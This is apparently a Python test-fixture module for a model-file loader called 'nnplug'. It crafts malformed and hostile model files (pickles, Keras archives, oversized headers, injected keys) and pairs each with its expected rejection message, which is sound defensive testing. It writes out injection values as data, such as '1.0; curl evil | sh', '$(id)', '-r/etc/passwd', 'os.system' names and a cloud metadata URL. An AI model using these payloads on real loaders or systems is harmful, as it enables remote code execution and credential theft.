"""Model files made by hand to do harm, each with what must be said of it."""

from __future__ import annotations

import copy
import gzip
import io
import json
import pickle
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

import numpy as np
from safetensors.numpy import save

from nnplug.errors import ModelFileError
from nnplug.models.container import _checksum

Document = dict[str, Any]
Arrays = dict[str, Any]


@dataclass(frozen=True)
class Sample:
    """A good model file, taken apart."""

    document: Document
    arrays: Arrays

    @classmethod
    def of(cls, data: bytes) -> Sample:
        length = int.from_bytes(data[:8], "little")
        header = json.loads(data[8 : 8 + length])
        document = json.loads(header.pop("__metadata__")["nnplug"])
        arrays = {
            name: np.frombuffer(
                data[8 + length :][slice(*each["data_offsets"])],
                {"F32": "<f4", "F64": "<f8"}[each["dtype"]],
            ).reshape(each["shape"])
            for name, each in header.items()
        }
        return cls(document, arrays)

    def bytes(self, *, sign: bool = True) -> bytes:
        """Put it together, with a checksum that fits: a forger has it too."""
        document = dict(self.document)
        if sign:
            head = {key: document.get(key) for key in ("kind", "format", "content")}
            try:
                document["checksum"] = _checksum(head, self.arrays)
            except (ValueError, ModelFileError):  # refused before the checksum is looked at
                document["checksum"] = "0" * 32
        return save(self.arrays, {"nnplug": json.dumps(document)})

    def header(self) -> Document:
        """Give the header of the file, to be changed by hand."""
        data = self.bytes()
        length = int.from_bytes(data[:8], "little")
        header: Document = json.loads(data[8 : 8 + length])
        return header

    def with_header(self, header: object, extra: bytes = b"") -> bytes:
        """Put the file together with another header, as JSON or as it stands."""
        data = self.bytes()
        length = int.from_bytes(data[:8], "little")
        text = header if isinstance(header, bytes) else json.dumps(header).encode()
        text += b" " * (-len(text) % 8)
        return len(text).to_bytes(8, "little") + text + data[8 + length :] + extra


Make = Callable[[Sample], bytes]


def content(change: Callable[[Any], None], *, sign: bool = True) -> Make:
    """Change the document's content."""

    def make(sample: Sample) -> bytes:
        changed = copy.deepcopy(sample.document)
        change(changed["content"])
        return Sample(changed, sample.arrays).bytes(sign=sign)

    return make


def document(**changes: Any) -> Make:
    """Change the document around the content; None takes a key away."""

    def make(sample: Sample) -> bytes:
        changed = {**copy.deepcopy(sample.document), **changes}
        changed = {key: value for key, value in changed.items() if value is not None}
        return Sample(changed, sample.arrays).bytes(sign="checksum" not in changes)

    return make


def raw(text: str) -> Make:
    """Put a text where the document stands."""
    return lambda sample: save(sample.arrays, {"nnplug": text})


def spliced(inserted: str) -> Make:
    """Put something at the start of the document's JSON object."""
    return lambda sample: save(
        sample.arrays, {"nnplug": "{" + inserted + "," + json.dumps(sample.document)[1:]}
    )


def arrays(**changes: Any) -> Make:
    """Change arrays, named with `__` for the dot; None takes one away."""

    def make(sample: Sample) -> bytes:
        named = {name.replace("__", "."): array for name, array in changes.items()}
        changed = {
            name: array for name, array in {**sample.arrays, **named}.items() if array is not None
        }
        return Sample(sample.document, changed).bytes()

    return make


def entry(**changes: Any) -> Make:
    """Change what the header says of the array `output.bias`."""

    def make(sample: Sample) -> bytes:
        header = sample.header()
        header["output.bias"].update(changes)
        return sample.with_header(header)

    return make


def part(role: str, **changes: Any) -> Make:
    """Change the first part of a role, or the activation of the hidden layer."""
    role, number = ("layers", 1) if role == "activation" else (role, 0)
    return content(lambda state: state["parts"][role][number].update(changes))


def encoder(change: Callable[[Any], None]) -> Make:
    """Change the encoder."""
    return content(lambda state: change(state["encoder"]))


def put(**changes: Any) -> Callable[[Any], None]:
    """Change entries of the content."""
    return lambda state: state.update(changes)


def network(**changes: Any) -> Make:
    """Change the sizes."""
    return content(lambda state: state["network"].update(changes))


def units(count: int) -> Make:
    """Change the units of the hidden layer."""
    return content(lambda state: state["parts"]["layers"][0]["options"].update(units=count))


class _Evil:
    def __reduce__(self) -> Any:
        return print, ("code of a pickle ran",)


def _zip(**files: bytes) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return made.getvalue()


def _npy() -> bytes:
    made = io.BytesIO()
    np.save(made, np.array([_Evil()], object), allow_pickle=True)
    return made.getvalue()


PICKLE = pickle.dumps(_Evil())
KERAS = json.dumps({"module": "builtins", "class_name": "eval", "config": "1+1"}).encode()

HOSTILE: dict[str, tuple[Make, str]] = {
    # --- other formats: one loader, and no fall-back to another (skops CVE-2025-54886)
    "pickle": (lambda sample: PICKLE, "it is a pickle, which may run any code when it is read"),
    "PyTorch's zip with a pickle (CVE-2025-32434, CVE-2026-24747)": (
        lambda sample: _zip(**{"archive/data.pkl": PICKLE}),
        "it is a zip archive, as PyTorch, Keras and skops write them",
    ),
    "Keras archive with a module to import (CVE-2025-1550)": (
        lambda sample: _zip(**{"config.json": KERAS}),
        "it is a zip archive",
    ),
    "Keras HDF5, whose legacy loader knew no safe mode (CVE-2025-9905)": (
        lambda sample: b"\x89HDF\r\n\x1a\n" + bytes(100),
        "it is an HDF5 file",
    ),
    "joblib's gzip": (lambda sample: gzip.compress(PICKLE), "it is a gzip file"),
    "NumPy array of objects": (lambda sample: _npy(), "it is a NumPy array file"),
    "Parquet": (lambda sample: b"PAR1" + bytes(100) + b"PAR1", "it is a Parquet table"),
    "text": (lambda sample: b"import os\nos.system('id')\n", "it is not a safetensors file"),
    "empty": (lambda sample: b"", "it ends after 0 bytes, before its header does"),
    "weights of another program": (
        lambda sample: save(sample.arrays),
        "it is a safetensors file of another program",
    ),
    # --- the header
    "cut": (lambda sample: sample.bytes()[:200], "it ends after 200 bytes, before its header"),
    "header without an end": (
        lambda sample: (1 << 63).to_bytes(8, "little") + b"{" + bytes(99),
        "it is not a safetensors file",
    ),
    "header of many megabytes": (
        lambda sample: sample.with_header(b"{" + b" " * (17 << 20) + b"}"),
        "its header has 17,825,800 bytes, and 16,777,216 are the most",
    ),
    "header that is no JSON": (
        lambda sample: sample.with_header(b"{'a': 1}"),
        "its JSON is malformed at character 1: Expecting property name",
    ),
    "header that is not UTF-8": (
        lambda sample: sample.with_header(b'{"\xff": 1}'),
        "its JSON is not UTF-8 at byte 2",
    ),
    "header nested 100,000 deep": (
        lambda sample: sample.with_header(b'{"a":' + b"[" * 100_000),
        "its JSON is nested deeper than 16 levels",
    ),
    "array named twice": (
        lambda sample: sample.with_header(
            json.dumps(sample.header()).replace('"output.weight"', '"output.bias"').encode()
        ),
        'its JSON has the key "output.bias" twice in one object',
    ),
    "metadata beside ours": (
        lambda sample: save(sample.arrays, {"nnplug": "{}", "pickle": "gASV"}),
        "its metadata has more than the one text that nnplug writes",
    ),
    "metadata that is not text": (
        lambda sample: sample.with_header(sample.header() | {"__metadata__": {"nnplug": {}}}),
        "its metadata has more than the one text that nnplug writes",
    ),
    "metadata that is a list": (
        lambda sample: sample.with_header(sample.header() | {"__metadata__": ["nnplug"]}),
        "it is a safetensors file of another program",
    ),
    "10,001 arrays": (
        lambda sample: Sample(
            sample.document, {f"a{k}": np.zeros(1, np.float32) for k in range(10_001)}
        ).bytes(),
        "it holds 10,001 arrays, and 10,000 are the most",
    ),
    "array of a type that is not kept": (
        entry(dtype="BF16"),
        'its array "output.bias" has elements of type BF16, and nnplug keeps F32, F64',
    ),
    "array of objects": (entry(dtype="O"), "has elements of type O"),
    "type that is an object": (
        entry(dtype={"py/object": "os.system"}),
        "has elements of type {'py",
    ),
    "negative shape": (entry(shape=[-3]), "shape is not a short list of whole numbers"),
    "fraction in a shape": (entry(shape=[1.5, 2]), "shape is not a short list of whole numbers"),
    "shape of a thousand axes": (entry(shape=[1] * 1000), "shape is not a short list"),
    "shape that overflows": (
        entry(shape=[1 << 40, 1 << 40]),
        "has shape (1099511627776, 1099511627776), which does not fit its bytes",
    ),
    "bytes beyond the file": (
        entry(data_offsets=[1 << 40, (1 << 40) + 12]),
        "its arrays do not fit the file",
    ),
    "arrays on top of each other": (
        entry(data_offsets=[0, 12]),
        "its arrays do not fit the file",
    ),
    "bytes after the arrays": (
        lambda sample: sample.with_header(sample.header(), extra=PICKLE),
        "its arrays do not fit the file",
    ),
    "array described by more": (
        entry(url="https://example.org/weights"),
        'its array "output.bias" is not described as safetensors does',
    ),
    # --- the document as JSON
    "NaN": (spliced('"a": NaN'), "its JSON holds NaN, which is not a number in JSON"),
    "-Infinity": (spliced('"a": -Infinity'), "its JSON holds -Infinity"),
    "a number too large": (spliced('"a": 1e999'), "its JSON holds 1e999, too large for a number"),
    "a number of a million digits": (
        spliced('"a": ' + "9" * 1_000_000),
        "its JSON holds a whole number of 1000000 digits; 40 are the most",
    ),
    "the last of two keys counts": (
        spliced('"kind": "model"'),
        'its JSON has the key "kind" twice in one object',
    ),
    "document nested 100,000 deep": (raw('{"a":' * 100_000), "its JSON is nested deeper than 16"),
    "a text without an end": (raw('["' + r"\"" * 100_000), "its JSON is malformed at character 1"),
    "half of a surrogate pair": (
        content(put(settings={"data": "\ud800"})),
        "its JSON holds half of a surrogate pair",
    ),
    "document that is a list": (raw("[]"), "its document has no kind and format"),
    # --- what the document says of itself
    "format of the future": (document(format=2), "it has format 2, and this nnplug reads format"),
    "format as text": (document(format="1"), "the version of its format is not a whole number"),
    "format as truth": (document(format=True), "the version of its format is not a whole number"),
    "unknown kind": (document(kind="script"), "its kind is unknown"),
    "checkpoint": (document(kind="checkpoint"), "it is a checkpoint file"),
    "flag that turns safety off (CVE-2025-9906)": (
        document(enable_unsafe_deserialization=True),
        "its document has other keys than nnplug writes",
    ),
    "no checksum": (document(checksum=None), "its document has other keys than nnplug writes"),
    "checksum of another form": (
        document(checksum="trust me"),
        "its checksum is not 32 hexadecimal digits",
    ),
    "content that is a list": (document(content=[]), "its content is not a JSON object"),
    "weights changed": (
        lambda sample: sample.bytes()[:-4] + b"\0\0\0\0",
        "its content does not match its checksum, so it was damaged or changed",
    ),
    "content changed": (
        content(put(classes=["no", "maybe", "yes"]), sign=False),
        "its content does not match its checksum",
    ),
    # --- the content
    "module to import (CVE-2025-1550)": (
        content(put(module="os", class_name="system")),
        'its content has "class_name", which nnplug does not write',
    ),
    "function of the framework itself (CVE-2025-8747)": (
        content(put(function="nnplug.cli.main")),
        'its content has "function", which nnplug does not write',
    ),
    "a key away": (content(lambda state: state.pop("task")), 'its content has no "task"'),
    "control characters in a key": (
        content(put(**{"\x1b[2J\x1b]0;owned\x07": 1})),
        r'its content has "\x1b[2J\x1b]0;owned\x07", which nnplug does not write',
    ),
    "unknown task": (content(put(task="shell")), 'there is no task "shell"'),
    "version that is none": (content(put(nnplug="$(id)")), '"$(id)" is not a version of nnplug'),
    "settings that are a list": (content(put(settings=[])), "the settings are not a JSON object"),
    # --- sizes
    "no inputs": (network(inputs=0), "the width of inputs is not a whole number from 1"),
    "truth for a width": (
        network(outputs=True),
        "the width of outputs is not a whole number from 1",
    ),
    "width beyond all memory": (
        units(1 << 60),
        "the network has 9,223,372,036,854,775,811 parameters and states, where 67 are expected",
    ),
    "more weights than the file holds": (
        units(1 << 30),
        "the network has 8,589,934,595 parameters and states, where 67 are expected",
    ),
    "layers that are not numbered": (
        network(layers=[0, -1]),
        "its layers are not numbered in order",
    ),
    "layers of one that is no neighbour": (
        network(layers=[-1, -1, 0]),
        "its layers are not numbered in order",
    ),
    "layers within layers without an end": (
        network(layers=list(range(-1, 5000))),
        "layers in it hold layers more than 16 deep",
    ),
    "a layer that is no layer": (
        content(lambda state: state["parts"]["layers"][0].update(kind="loss")),
        'the kind of dense is "loss", and it must be layer or activation',
    ),
    "a layer around layers that holds none": (
        network(layers=[-1, 0]),
        "layer 'dense' holds no layers",
    ),
    "a hundred thousand layers": (network(layers=[-1] * 100_000), "and needs 100000"),
    "another dtype": (network(dtype="object"), 'the dtype "object" is neither float32 nor float64'),
    "dtype that does not fit": (network(dtype="float64"), "has shape (4, 8) of float32, and the"),
    # --- parts
    "function with a dotted name": (
        part("activation", name="os.system"),
        '"os.system" is not the name of a part',
    ),
    "path for a name (CVE-2026-1462)": (
        part("activation", name="../../saved_model"),
        '"../../saved_model" is not the name of a part',
    ),
    "address for a package": (
        part("activation", package="git+https://example.org/evil"),
        '"git+https://example.org/evil" is not the name of a package (activation relu)',
    ),
    "option of pip for a package": (
        part("activation", package="-r/etc/passwd"),
        '"-r/etc/passwd" is not the name of a package',
    ),
    "command line in a version": (
        part("activation", package="nnplug-mish", version="1.0; curl evil | sh"),
        '"1.0; curl evil | sh" is not a version (activation relu, package nnplug-mish)',
    ),
    "package that is not installed": (
        part("activation", package="nnplug-absent", version="1.2"),
        "a plugin that it needs is not installed",
    ),
    "package that is no plugin": (
        part("activation", package="numpy", version="2.0"),
        "a plugin that it needs is not installed",
    ),
    "built-in part that is none": (
        part("activation", name="eval"),
        "this nnplug has no activation eval",
    ),
    "part of another kind": (part("activation", name="mse"), "this nnplug has no activation mse"),
    "code for a lambda": (
        part("activation", package="local", version="", name="function_from_source"),
        "activation function_from_source is not from a package but from a file or from Python code",
    ),
    "two losses": (
        content(lambda state: state["parts"]["loss"].append(state["parts"]["loss"][0])),
        "it names 2 parts for loss, and needs 1",
    ),
    "role that is none": (
        content(lambda state: state["parts"].update(preprocessor=[])),
        'its table of parts has "preprocessor", which nnplug does not write',
    ),
    "option that the part has not": (
        part("activation", options={"__class__": "os"}),
        "activation relu has no option __class__",
    ),
    "option that is an object": (
        part("activation", options={"slope": {"py/reduce": ["os.system", "id"]}}),
        "the option slope of activation relu is neither number, text nor truth value",
    ),
    "option that is no name": (
        part("activation", options={"a b": 1}),
        '"a b" is not the name of an option (activation relu)',
    ),
    "digest that is none": (
        part("activation", formula="$(id)"),
        '"$(id)" is not the digest of a formula (activation relu)',
    ),
    "digest that is a list": (
        part("loss", formula=["1:00"]),
        "the digest of the formula of loss cross_entropy is not text",
    ),
    "digest without an end": (
        part("activation", formula="1:" + "0" * 100_000),
        "is not the digest of a formula (activation relu)",
    ),
    "text for a number": (
        part("activation", name="leaky_relu", options={"slope": "__import__('os')"}),
        'activation leaky_relu: its option slope is "__import__(\'os\')", which is not of the type',
    ),
    "softmax twice": (
        part("output_activation", name="softmax"),
        "the loss takes logits and applies its own softmax; it would be applied twice",
    ),
    # --- classes, features, encoder
    "class that is an object": (
        content(put(classes=["a", "b", {"c": 1}])),
        "a class is neither text nor number",
    ),
    "class twice": (content(put(classes=[1, 2, True])), "a class is listed twice"),
    "a class too few": (
        content(put(classes=["setosa", "virginica"])),
        "its encoder has another task, other classes or other features",
    ),
    "a class too few, without encoder": (
        content(put(classes=["setosa", "virginica"], encoder=None)),
        "3 outputs do not fit a multiclass of 2 classes with loss cross_entropy, which needs 2",
    ),
    "classes for a regression": (
        content(put(task="regression", encoder=None)),
        "it has 3 classes for a regression",
    ),
    "features that do not fit": (
        content(put(features=["a"])),
        "it names 1 features for 4 inputs",
    ),
    "encoder that is text": (content(put(encoder="eval")), "the encoder is not a JSON object"),
    "vocabulary at an address (CVE-2025-12058)": (
        encoder(lambda state: state["columns"].__setitem__(0, {
            "name": "sepal_length", "kind": "text",
            "categories": "http://169.254.169.254/latest/meta-data"})),
        'a text column has no "missing"',
    ),
    "vocabulary in a file (CVE-2025-12058)": (
        encoder(lambda state: state["columns"][0].update(vocabulary="/etc/passwd")),
        'a scale has "vocabulary", which nnplug does not write',
    ),
    "scale of zero": (
        encoder(lambda state: state["columns"][0].update(scale=0)),
        'the scale of "sepal_length" is not positive',
    ),
    "column twice": (
        encoder(lambda state: state["columns"].append(state["columns"][0])),
        "a column is listed twice",
    ),
    # --- weights
    "weight that is not a number": (
        arrays(output__bias=np.array([0, np.nan, 0], np.float32)),
        "output.bias holds a number that is not finite",
    ),
    "infinite weight": (
        arrays(hidden1__bias=np.full(8, np.inf, np.float32)),
        "hidden1.bias holds a number that is not finite",
    ),
    "array away": (
        arrays(output__bias=None),
        "a network of 4-8-3 has 67 parameters and states, and it holds 64",
    ),
    "array too many": (
        arrays(evil=np.zeros(3, np.float32), output__bias=None),
        'it has an array that the network does not have: "evil"',
    ),
    "weights the other way round": (
        lambda sample: arrays(hidden1__weight=sample.arrays["hidden1.weight"].T.copy())(sample),
        "hidden1.weight has shape (8, 4) of float32, and the network needs (4, 8)",
    ),
    "weights of another dtype": (
        arrays(output__bias=np.zeros(3)),
        "output.bias has shape (3,) of float64, and the network needs (3,) of float32",
    ),
}  # fmt: skip
"""By name: how it is made from a good file, and what is said of it."""
